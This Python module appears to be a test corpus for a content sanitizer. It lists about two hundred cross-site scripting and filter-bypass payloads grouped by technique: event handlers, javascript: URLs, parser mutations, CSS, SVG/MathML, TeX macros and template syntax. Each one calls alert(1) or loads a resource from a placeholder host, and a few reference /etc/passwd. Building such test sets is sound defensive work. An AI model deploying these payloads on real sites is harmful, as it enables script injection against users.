# ruff: noqa: E501 - a trick is a line
"""Known ways of smuggling a script, a request or a link past a filter, by class.

Each runs `alert(1)`, or asks https://e.test for something, where nothing stops it.
"""

HANDLERS = r"""
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<IMG SRC=x OnErRoR="alert(1)">
<img/src=x/onerror=alert(1)>
<img src=x	onerror	=	alert(1)>
<img src="x" onerror='alert(1)' alt="">
<img src=`x`onerror=alert(1)>
<img src=x onerror=alert&#40;1&#41;>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img src=x onerror="top['al'+'ert'](1)">
<img src=x onerror=alert`1`>
<img src=x onerror=eval(atob('YWxlcnQoMSk='))>
<img src=x onload=alert(1) srcset="x 1x">
<body onload=alert(1)>
<details open ontoggle=alert(1)>a</details>
<details open="" title="a" ontoggle="alert(1)"><summary>a</summary></details>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<b tabindex=0 autofocus onfocus=alert(1)>a</b>
<b onmouseover=alert(1)>a</b>
<b onpointerenter="alert(1)">a</b>
<b onclick=alert(1)>a</b>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1) src=x></video>
<audio src=x onerror=alert(1)></audio>
<video poster=https://e.test/poster.png></video>
<marquee onstart=alert(1)>a</marquee>
<style>@keyframes a{}</style><b style="animation-name:a" onanimationstart="alert(1)">a</b>
<button popovertarget=a>a</button><div popover id=a onbeforetoggle=alert(1)>a</div>
"""

PROTOCOLS = r"""
<a href="javascript:alert(1)">a</a>
<a href="JaVaScRiPt:alert(1)">a</a>
<a href=" javascript:alert(1)">a</a>
<a href="&#1;javascript:alert(1)">a</a>
<a href="java&#9;script:alert(1)">a</a>
<a href="java&#10;script:alert(1)">a</a>
<a href="java&NewLine;script&colon;alert(1)">a</a>
<a href="javascript&colon;alert(1)">a</a>
<a href="&#x6A;avascript:alert(1)">a</a>
<a href="&#0000106avascript:alert(1)">a</a>
<a href="javascript://e.test/%0aalert(1)">a</a>
<a href="data:text/html,<script>alert(1)</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>
<a href="vbscript:alert(1)">a</a>
<a href="blob:https://e.test/1">a</a>
<a href="file:///etc/passwd">a</a>
<a href="view-source:javascript:alert(1)">a</a>
<area href="javascript:alert(1)" shape=default>
<img src="javascript:alert(1)">
<img src="https://e.test/a.png">
<img src="//e.test/a.png">
<img src="/\e.test/a.png">
<img src="ht&#9;tps://e.test/a.png">
<img srcset="https://e.test/a.png 1x">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<picture><source srcset="https://e.test/a.png"><img></picture>
<form action="javascript:alert(1)"><button>a</button></form>
<form><button formaction="javascript:alert(1)">a</button></form>
<isindex action="javascript:alert(1)" type=image>
<a ping="https://e.test/ping" href="https://e.test/">a</a>
<blockquote cite="javascript:alert(1)">a</blockquote>
[a](javascript:alert(1))
[a](<javascript:alert(1)>)
[a](java&#115;cript:alert(1))
[a](&#x6a;avascript:alert(1))
[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[a](  javascript:alert(1) "b")
[a](https://e.test/"onmouseover="alert(1))
![a](https://e.test/a.png)
![a](x"onerror="alert(1))
![a" onerror="alert(1)](x)
![a](x 'b" onerror="alert(1)')
<javascript:alert(1)>
<https://e.test/"onclick="alert(1)>
https://e.test/"onmouseover="alert(1)
"""

ELEMENTS = r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=https://e.test/a.js></script>
<script src="//e.test/a.js">
<script/a>alert(1)</script >
<script type="module">alert(1)</script>
<script type="importmap">{"imports":{"a":"https://e.test/a.js"}}</script>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe src=https://e.test/></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<base href="https://e.test/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;https://e.test/">
<link rel=stylesheet href=https://e.test/a.css>
<link rel=prefetch href=https://e.test/a>
<link rel=preload as=image href=https://e.test/a.png>
<frameset onload=alert(1)>
<portal src="https://e.test/">
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<dialog open><form method=dialog><button autofocus>a</button></form></dialog>
<track src=https://e.test/a.vtt>
<bgsound src=https://e.test/a.wav>
<table background=https://e.test/a.png><tr><td>a</td></tr></table>
<applet code=a archive=https://e.test/a.jar></applet>
<x-a is="script">alert(1)</x-a>
"""

ENTITIES = r"""
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
&#x3C;img src=x onerror=alert(1)&#x3E;
&#0060img src=x onerror=alert(1)&#0062
&LT;img src=x onerror=alert(1)&GT;
\<img src=x onerror=alert(1)\>
%3Cimg src=x onerror=alert(1)%3E
\u003cimg src=x onerror=alert(1)\u003e
\x3cimg src=x onerror=alert(1)\x3e
＜img src=x onerror=alert(1)＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
`&lt;img src=x onerror=alert(1)&gt;`
"""

MALFORMED = r'''
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img """><script>alert(1)</script>">
<img src="x" "onerror=alert(1)">
<img src=x:x onerror=alert(1) "
<img src=x onerror=alert(1) <b>
</p onmouseover=alert(1)><img src=x onerror=alert(1)>
<b title="><img src=x onerror=alert(1)>">a</b>
<b title='"><img src=x onerror=alert(1)>'>a</b>
<b title=a"><img src=x onerror=alert(1)>
<a title="`"href="`javascript:alert(1)">a</a>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!--a--!><img src=x onerror=alert(1)>-->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml ?><img src=x onerror=alert(1)>
<!x ><img src=x onerror=alert(1)>
<%<img src=x onerror=alert(1)>%>
</ x><img src=x onerror=alert(1)>
<//><img src=x onerror=alert(1)>
<plaintext><img src=x onerror=alert(1)>
"><img src=x onerror=alert(1)>
'"--></style></script><script>alert(1)</script>
--><img src=x onerror=alert(1)><!--
</textarea></title></noscript><img src=x onerror=alert(1)>
</div></section></ol></main><img src=x onerror=alert(1)>
'''

MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math href="</style><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><style><img title="</style><img src=x onerror=alert(1)>">
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=alert(1)>"></style></annotation-xml></math>
<math><mi><b><style><!--</b></style><img src=x onerror=alert(1)>--></mi></math>
<table><td><style><b title="</style><img src=x onerror=alert(1)>"></td></table>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<title><a title="</title><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<details><summary><table><summary title="</summary><img src=x onerror=alert(1)>"></summary></table></details>
<img alt="``onerror=alert(1)" src=x>
<p title="&lt;/p>&lt;img src=x onerror=alert(1)>">a</p>
"""

STYLES = r"""
<style>@import url(https://e.test/a.css);</style>
<style>*{background:url(https://e.test/a.png)}</style>
<STYLE>@im\port'\ja\vasc\ript:alert(1)';</STYLE>
<b style="background:url(https://e.test/a.png)">a</b>
<b style="background:u&#114;l(https://e.test/a.png)">a</b>
<b style="background:\75\72\6c(https://e.test/a.png)">a</b>
<b style="background-image:image-set('https://e.test/a.png' 1x)">a</b>
<b style="list-style:url(https://e.test/a.png);display:list-item">a</b>
<b style="width:expression(alert(1))">a</b>
<b style="position:fixed;inset:0;z-index:9">a</b>
<p style="cursor:url(https://e.test/a.cur),auto">a</p>
<font face="a" style='font-family:"</style><img src=x onerror=alert(1)>"'>a</font>
<link rel=stylesheet href="data:text/css,*{background:url(https://e.test/a.png)}">
"""

NAMESPACES = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="https://e.test/a.js"/></svg>
<svg><script>alert&#40;1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set attributeName=x onend=alert(1) dur=1ms></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>a</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>a</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
<svg><image href="https://e.test/a.png"/></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><feImage href="https://e.test/a.png"/></svg>
<svg:svg onload=alert(1)>
<math href="javascript:alert(1)">a</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>
<math><mi xlink:href="data:x,<script>alert(1)</script>">a</mi></math>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">a</x>
<xml><a>&lt;img src=x onerror=alert(1)&gt;</a></xml>
"""

TEX = r"""
$\href{javascript:alert(1)}{x}$
$\require{html}\href{javascript:alert(1)}{x}$
$\class{bd-stem}{x}$
$\cssId{qa}{x}$
$\style{background:url(https://e.test/a.png)}{x}$
$\bbox[background:url(https://e.test/a.png)]{x}$
$\mmlToken{mi}[href="javascript:alert(1)"]{x}$
$\unicode{x3c}img src=x onerror=alert(1)\unicode{x3e}$
$\html{<img src=x onerror=alert(1)>}$
$\data{x=alert(1)}{x}$
$\def\h{\href}\h{javascript:alert(1)}{x}$
$\let\h\href\h{javascript:alert(1)}{x}$
$\csname href\endcsname{javascript:alert(1)}{x}$
$\text{<img src=x onerror=alert(1)>}$
$\text{$\href{javascript:alert(1)}{x}$}$
$\color{red;background:url(https://e.test/a.png)}{x}$
$\enclose{circle}[href="javascript:alert(1)"]{x}$
$\includegraphics{https://e.test/a.png}$
$\newcommand{\h}[1]{\href{javascript:alert(1)}{#1}}\h{x}$
$\begin{array}{c}\href{javascript:alert(1)}{x}\end{array}$
$$\href{javascript:alert(1)}{x}$$
\\(\href{javascript:alert(1)}{x}\\)
\(\href{javascript:alert(1)}{x}\)
"""

TEMPLATES = r"""
{{FrontSide}}<img src=x onerror=alert(1)>
{{text:Front}}{{#Front}}<script>alert(1)</script>{{/Front}}
{{c1::<img src=x onerror=alert(1)>}}
[[type:Front]]<script>alert(1)</script>
[sound:https://e.test/a.mp3]
[sound:x" onerror="alert(1).mp3]
[latex]\input{/etc/passwd}[/latex]
[anki:tts lang=en_US]<img src=x onerror=alert(1)>[/anki:tts]
${alert(1)}
`${alert(1)}`
<%= alert(1) %>
*/alert(1);/*
';alert(1);//
";alert(1);//
</script><script>alert(1)</script>
{{constructor.constructor('alert(1)')()}}
"""

CLASSES = {
    "handlers": HANDLERS,
    "protocols": PROTOCOLS,
    "elements": ELEMENTS,
    "entities": ENTITIES,
    "malformed tags": MALFORMED,
    "mutations": MUTATIONS,
    "styles": STYLES,
    "namespaces": NAMESPACES,
    "TeX": TEX,
    "templates": TEMPLATES,
}
TRICKS = tuple(
    (name, trick) for name, listed in CLASSES.items() for trick in listed.strip().split("\n")
)
